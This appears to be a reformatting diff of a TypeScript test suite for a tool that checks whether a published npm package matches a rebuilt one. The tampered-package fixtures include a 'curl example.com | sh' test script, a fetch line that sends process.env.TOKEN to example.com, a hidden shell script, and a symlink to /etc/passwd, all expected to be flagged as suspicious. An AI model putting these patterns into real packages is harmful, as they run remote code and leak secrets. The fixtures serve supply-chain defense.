@@ -33,7 +33,11 @@ const tampered: readonly (readonly [string, readonly ComparedMember[], string])[
     withManifest(thing, { scripts: { ...manifest.scripts, test: 'curl example.com | sh' } }),
     'npm/scripts',
   ],
-  ['a dependency added', withManifest(thing, { dependencies: { left: '^1.0.0', evil: '1.0.0' } }), 'npm/dependencies'],
+  [
+    'a dependency added',
+    withManifest(thing, { dependencies: { left: '^1.0.0', evil: '1.0.0' } }),
+    'npm/dependencies',
+  ],
   ['a dependency changed', withManifest(thing, { dependencies: { left: '^2.0.0' } }), 'npm/dependencies'],
   ['another main', withManifest(thing, { main: 'dist/inner.js' }), 'npm/main'],
   ['exports added', withManifest(thing, { exports: './dist/inner.js' }), 'npm/exports'],
@@ -46,7 +50,11 @@ const tampered: readonly (readonly [string, readonly ComparedMember[], string])[
   ],
   ['code on one side', [...thing, file('dist/extra.js', 'module.exports = 2;\n')], 'npm/one-sided-code'],
   ['code under another name', [...thing, file('notes.md', '#!/bin/sh\nid\n')], 'npm/one-sided-code'],
-  ['a file that can hold anything', [...thing, file('data.bin', Buffer.from([1, 0, 2]))], 'npm/one-sided-file'],
+  [
+    'a file that can hold anything',
+    [...thing, file('data.bin', Buffer.from([1, 0, 2]))],
+    'npm/one-sided-file',
+  ],
   ['an addon that node-gyp builds', [...thing, file('binding.gyp', '{}')], 'npm/install-code'],
   ['noise that holds something else', [...thing, file('.DS_Store', 'require("fs")')], 'npm/one-sided-file'],
   ['an exec bit', withFile(thing, 'dist/inner.js', exec), 'npm/exec-bit'],
@@ -61,22 +69,39 @@ const tampered: readonly (readonly [string, readonly ComparedMember[], string])[
     withText(thing, 'dist/index.js', (text) => `${text}\nfetch('//example.com/' + process.env.TOKEN);\n`),
     'npm/new-capability',
   ],
-  ['a file packed twice', [...thing, file('dist/inner.js', 'module.exports = 2;\n')], 'ambiguous/duplicate-path'],
-  ['a file packed twice, the same', [...thing, file('dist/inner.js', 'module.exports = 1;\n')], 'ambiguous/duplicate-path'],
+  [
+    'a file packed twice',
+    [...thing, file('dist/inner.js', 'module.exports = 2;\n')],
+    'ambiguous/duplicate-path',
+  ],
+  [
+    'a file packed twice, the same',
+    [...thing, file('dist/inner.js', 'module.exports = 1;\n')],
+    'ambiguous/duplicate-path',
+  ],
   ['names that collide by case', [...thing, file('dist/Inner.js', 'x')], 'ambiguous/colliding-path'],
   ['a climbing path', [...thing, file('../x.js', 'x')], 'ambiguous/path-dotdot'],
   ['an absolute path', [...thing, file('/etc/x', 'x')], 'ambiguous/path-absolute'],
-  ['setuid', withFile(thing, 'dist/inner.js', (member) => ({ ...member, mode: 0o4755 })), 'ambiguous/special-mode'],
+  [
+    'setuid',
+    withFile(thing, 'dist/inner.js', (member) => ({ ...member, mode: 0o4755 })),
+    'ambiguous/special-mode',
+  ],
   ['a symbolic link', [...thing, other('dist/link', 'symlink', 0o777, '/etc/passwd')], 'ambiguous/symlink'],
   ['a hard link', [...thing, other('dist/link', 'hardlink', 0o644, 'dist/inner.js')], 'ambiguous/hardlink'],
   ['a device', [...thing, other('dist/null', 'device', 0o666)], 'ambiguous/device'],
-  ['a file for a folder', withFile(thing, 'dist/inner.js', () => other('dist/inner.js', 'directory')), 'type-changed'],
+  [
+    'a file for a folder',
+    withFile(thing, 'dist/inner.js', () => other('dist/inner.js', 'directory')),
+    'type-changed',
+  ],
 ];
 
 for (const [name, upstream, rule] of tampered) {
   test(`tampered: ${name}`, () => {
-    const rebuilt =
-      name.includes('minified') ? withText(thing, 'dist/index.js', (text) => text.replaceAll('\n', '')) : thing;
+    const rebuilt = name.includes('minified')
+      ? withText(thing, 'dist/index.js', (text) => text.replaceAll('\n', ''))
+      : thing;
     const { verdict, differences } = compared(upstream, rebuilt);
     assert.equal(verdict, 'suspicious');
     assert.ok(
@@ -112,9 +137,17 @@ const honest: readonly Honest[] = [
   ],
   ['gitHead of the commit that was built', withManifest(thing, { gitHead: commit }), 'benign-difference'],
   ['gitHead of another commit', withManifest(thing, { gitHead: 'a'.repeat(40) }), 'unexplained'],
-  ['fields of old npm', withManifest(thing, { _id: 'thing@1.2.3', _npmVersion: '2.0.0' }), 'benign-difference'],
+  [
+    'fields of old npm',
+    withManifest(thing, { _id: 'thing@1.2.3', _npmVersion: '2.0.0' }),
+    'benign-difference',
+  ],
   ['a leftover of a file manager', [...thing, file('dist/._inner.js', appleDouble)], 'benign-difference'],
-  ['a command without exec bit', withFile(thing, 'bin/thing.js', (one) => ({ ...one, mode: 0o644 })), 'benign-difference'],
+  [
+    'a command without exec bit',
+    withFile(thing, 'bin/thing.js', (one) => ({ ...one, mode: 0o644 })),
+    'benign-difference',
+  ],
   ['all files executable', thing.map(exec), 'unexplained'],
   [
     'a banner with the day',
@@ -136,18 +169,28 @@ const honest: readonly Honest[] = [
   ],
   [
     'the folder it was built in',
-    withText(thing, 'dist/inner.js', (text) => `${text}var from = "/home/runner/work/thing/thing/src/a.ts";\n`),
+    withText(
+      thing,
+      'dist/inner.js',
+      (text) => `${text}var from = "/home/runner/work/thing/thing/src/a.ts";\n`,
+    ),
     'benign-difference',
     withText(thing, 'dist/inner.js', (text) => `${text}var from = "/build/source/src/a.ts";\n`),
   ],
   [
     'a source map relative to elsewhere',
-    withText(thing, 'dist/index.js.map', (text) => text.replace('../src', '../../../packages/thing/src').replace('packages/thing/', '')),
+    withText(thing, 'dist/index.js.map', (text) =>
+      text.replace('../src', '../../../packages/thing/src').replace('packages/thing/', ''),
+    ),
     'benign-difference',
   ],
   ['a document on one side', [...thing, file('CHANGELOG.md', '# 1\n')], 'unexplained'],
   ['a file that upstream lacks', thing.slice(0, -1), 'unexplained'],
-  ['scripts taken out when publishing', withManifest(thing, { scripts: { test: 'node --test' } }), 'unexplained'],
+  [
+    'scripts taken out when publishing',
+    withManifest(thing, { scripts: { test: 'node --test' } }),
+    'unexplained',
+  ],
   ['another word in a document', withText(thing, 'README.md', (text) => `${text}!\n`), 'unexplained'],
   [
     'the output of another version of a compiler',
